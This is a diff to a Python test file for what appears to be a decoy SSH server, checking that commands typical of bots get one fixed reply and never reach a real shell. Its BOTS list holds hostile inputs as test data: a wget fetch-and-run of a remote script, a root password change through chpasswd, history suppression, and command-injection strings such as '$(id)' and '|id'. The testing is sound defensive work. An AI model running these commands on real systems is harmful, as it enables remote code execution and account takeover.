@@ -263,11 +263,14 @@ BOTS = ["uname -a", "uname -s -v -n -r -m", "cat /proc/cpuinfo | grep name",
         "cd /tmp || cd /var/run; wget http://192.0.2.1/a.sh; sh a.sh",
         "export HISTFILE=/dev/null; nproc", "echo root:x|chpasswd|bash",
         "sh", "/bin/busybox X", "$(id)", "`id`", "text; id", "|id"]
+# Those that begin with a word of ours, or with what is near to one.
+OURS = ["cat /proc/cpuinfo | grep name", "whoami",
+        "cat /proc/uptime 2 > /dev/null", "text; id"]
 UPLOADS = ["scp -t /tmp/x", "scp -qt /tmp", "scp -r -t -- /tmp"]
 
 
 def answer(link, command):
-    """What a command gives, but for the word that repeats it."""
+    """All that a command gives."""
     channel = link.open()
     link.request(channel, "exec", command)
     words = b""
@@ -277,20 +280,23 @@ def answer(link, command):
         if message[:1] == bytes([wire.CLOSE]):
             break
     link.send_message(wire.CLOSE, channel)
-    return words.replace(command.split()[0].encode(), b"X", 1)
+    return words
 
 
-def test_bots_get_fixed_answers_and_no_shell(host):
-    """Sentences of ours that do not depend on the machine: the same a second
-    time, and nothing of what a shell would say."""
+def test_bots_get_one_fixed_answer_and_no_shell(host):
+    """The same bytes for all that begins with no word of ours. What does is
+    answered without a shell: nothing of it depends on the machine."""
     server = host()
     link = authenticated(server)
-    for command in BOTS:
-        first = answer(link, command)
-        assert answer(link, command) == first
-        assert b"exit-status" in first
+    answers = {command: answer(link, command) for command in BOTS}
+    assert all(b"exit-status" in words for words in answers.values())
+    others = {command: words for command, words in answers.items()
+              if command not in OURS}
+    assert len(set(others.values())) == 1, others
+    for command in OURS:
+        assert answer(link, command) == answers[command]
         for word in b"Linux", b"root", b"uid=", b"processor":
-            assert word not in first, command
+            assert word not in answers[command], command
     assert not pathlib.Path("/tmp/.x").exists()
     link.close()
 
